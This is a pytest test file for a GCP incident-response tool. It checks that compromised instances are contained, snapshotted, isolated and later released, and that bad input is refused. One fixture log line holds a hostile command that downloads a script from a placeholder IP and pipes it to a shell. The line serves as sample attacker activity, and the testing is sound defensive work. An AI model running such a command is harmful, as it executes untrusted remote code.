"""The GCP responders against the fake: contain, re-run, release, refuse bad input, dry-run."""

from __future__ import annotations

import json

import pytest

from prewire.core.evidence.verify import verify_case
from prewire.core.vocabulary import Cloud
from responders.gcp.permissions import (
    EVIDENCE,
    VMDK_EXPORT,
    break_glass_permissions,
    responder_permissions,
)
from responders.registry import required_permissions
from responders.runtime import InputError, Status
from tests.gcp.conftest import ACCOUNT, VICTIM, ZONE, Project, act, open_test_case, play

DESTRUCTIVE = ("/stop", "/reset", "/suspend", "/delete")


def test_contain_instance_protects_snapshots_and_isolates_without_stopping(
    project: Project,
) -> None:
    case = open_test_case(project)
    outcomes = play(case, "contain-instance", VICTIM)
    assert [(o.action, o.status) for o in outcomes] == [
        ("protect-instance", Status.CHANGED),
        ("snapshot-disks", Status.CHANGED),
        ("isolate-instance", Status.CHANGED),
        ("quarantine-identity", Status.CHANGED),
        ("collect-logs", Status.COLLECTED),
    ]
    instance = project.instance()
    assert instance["status"] == "RUNNING" and instance["deletionProtection"] is True
    assert [d["autoDelete"] for d in instance["disks"]] == [False, False]
    assert instance["tags"]["items"] == ["http-server", "prewire-quarantine"]
    assert instance["networkInterfaces"][0]["accessConfigs"] == []
    snapshots = project.fake.compute.snapshots
    assert len(snapshots) == 2
    assert {s["labels"]["prewire-source-disk"] for s in snapshots.values()} == {
        "web-1-boot",
        "web-1-data",
    }
    assert all(s["labels"]["prewire-case"] == "case-1" for s in snapshots.values())
    assert not [p for p in project.posts() if p.split("?")[0].endswith(DESTRUCTIVE)]
    # The service account and its user-managed keys are disabled; the system key cannot be.
    iam = project.fake.iam
    assert iam.accounts[ACCOUNT]["disabled"] is True
    assert [k["disabled"] for k in iam.keys[ACCOUNT]] == [False, True, True]
    # The custody log verifies, names each change with GCP's operation id, and keeps the
    # removed external address for release.
    assert case.store is not None and verify_case(case.store, "case-1").ok
    entries = case.store.read_all_entries("case-1")
    isolate = next(e for e in entries if e.action == "isolate-instance")
    assert isolate.state["access_configs"][0]["natIP"] == "203.0.113.10"
    operations = [c.operation for c in isolate.calls]
    assert "instances.setTags" in operations and "instances.deleteAccessConfig" in operations
    assert all(c.request_id for c in isolate.calls if c.operation.startswith("instances.set"))
    snapshot = next(e for e in entries if e.action == "snapshot-disks")
    assert snapshot.artifacts[0].key.endswith("/snapshot-disks/snapshots.json")


def test_a_second_run_changes_nothing_and_says_so(project: Project) -> None:
    play(open_test_case(project), "contain-instance", VICTIM)
    writes = len(project.posts())
    again = play(open_test_case(project), "contain-instance", VICTIM)
    assert [o.status for o in again] == [Status.UNCHANGED] * 5
    assert len(project.posts()) == writes


def test_release_needs_confirmation_and_restores_what_was_recorded(project: Project) -> None:
    act(open_test_case(project), "isolate-instance", VICTIM)
    with pytest.raises(InputError, match="--yes"):
        act(open_test_case(project), "release-instance", VICTIM)
    [released] = act(open_test_case(project, confirm_release=True), "release-instance", VICTIM)
    assert released.status is Status.CHANGED, released.message
    instance = project.instance()
    assert instance["tags"]["items"] == ["http-server"]
    assert instance["networkInterfaces"][0]["accessConfigs"][0]["natIP"] == "203.0.113.10"
    assert instance["deletionProtection"] is True  # protection stays
    [again] = act(open_test_case(project, confirm_release=True), "release-instance", VICTIM)
    assert again.status is Status.UNCHANGED


def test_logs_of_the_instance_and_its_service_account_are_collected_for_the_window(
    project: Project,
) -> None:
    case = open_test_case(project)
    [outcome] = act(case, "collect-logs", VICTIM)
    assert outcome.status is Status.COLLECTED and "3 log entries" in outcome.message
    assert case.store is not None
    [logs] = [a for a in outcome.artifacts if a.key.endswith("logs.jsonl")]
    lines = case.store.open(logs.key).read().decode().splitlines()
    payloads = [json.loads(line) for line in lines]
    assert payloads[0]["textPayload"] == "curl http://203.0.113.66/x.sh | sh"
    assert payloads[2]["protoPayload"]["authenticationInfo"]["principalEmail"] == ACCOUNT
    calls = [c.operation for c in outcome.calls]
    assert "entries.list" in calls


def test_release_identity_re_enables_only_what_the_case_disabled(project: Project) -> None:
    iam = project.fake.iam
    key = iam.keys[ACCOUNT][1]
    key["disabled"] = True  # disabled before the incident: not the case's to re-enable
    [quarantined] = act(open_test_case(project), "quarantine-identity", VICTIM)
    assert quarantined.status is Status.CHANGED
    assert "may be shared" in " ".join(quarantined.warnings)
    with pytest.raises(InputError, match="--yes"):
        act(open_test_case(project), "release-identity", VICTIM)
    [released] = act(open_test_case(project, confirm_release=True), "release-identity", VICTIM)
    assert released.status is Status.CHANGED, released.message
    assert iam.accounts[ACCOUNT]["disabled"] is False
    assert [k["disabled"] for k in iam.keys[ACCOUNT]] == [False, True, False]
    entries = open_test_case(project).store.read_all_entries("case-1")  # type: ignore[union-attr]
    quarantine = next(e for e in entries if e.action == "quarantine-identity")
    assert [c.operation for c in quarantine.calls if c.operation.endswith("disable")] == [
        "serviceAccounts.disable",
        "keys.disable",
    ]


def test_a_network_without_quarantine_rules_is_refused_before_any_change(
    project: Project,
) -> None:
    project.fake.compute.firewalls.clear()
    with pytest.raises(InputError, match="network app-vpc has no deny-all egress or ingress"):
        act(open_test_case(project), "isolate-instance", VICTIM)
    assert project.posts() == []
    assert project.instance()["tags"]["items"] == ["http-server"]


@pytest.mark.parametrize(
    ("target", "message"),
    [
        (f"projects/other-project/zones/{ZONE}/instances/web-1", "is in project other-project"),
        (f"projects/prewire-fake/zones/{ZONE}/instances/nope", "not found"),
        ("web-1", "is not an instance"),
    ],
)
def test_bad_targets_stop_the_run_before_anything_changes(
    project: Project, target: str, message: str
) -> None:
    with pytest.raises(InputError, match=message):
        act(open_test_case(project), "isolate-instance", VICTIM, target)
    assert project.instance()["tags"]["items"] == ["http-server"]


def test_dry_run_plans_the_calls_and_changes_nothing(project: Project) -> None:
    outcomes = play(open_test_case(project, dry_run=True), "contain-instance", VICTIM)
    planned = [str(p) for o in outcomes for p in o.planned]
    assert any("set_tags" in p for p in planned) and any("create_snapshot" in p for p in planned)
    assert not project.fake.compute.snapshots
    assert project.instance()["deletionProtection"] is False


def test_the_stacks_roles_hold_everything_the_actions_declare_release_on_break_glass() -> None:
    declared = {p.action for p in required_permissions(Cloud.GCP)}
    assert declared == set(break_glass_permissions(vmdk_export=True))
    contain = set(responder_permissions())
    assert declared - contain == {
        "compute.instances.addAccessConfig",
        "compute.subnetworks.useExternalIp",
        "iam.serviceAccounts.enable",
        "iam.serviceAccountKeys.enable",
        *VMDK_EXPORT,
        *EVIDENCE,  # a role of its own, bound on the evidence bucket
    }
    assert set(responder_permissions(vmdk_export=True)) - contain == set(VMDK_EXPORT)
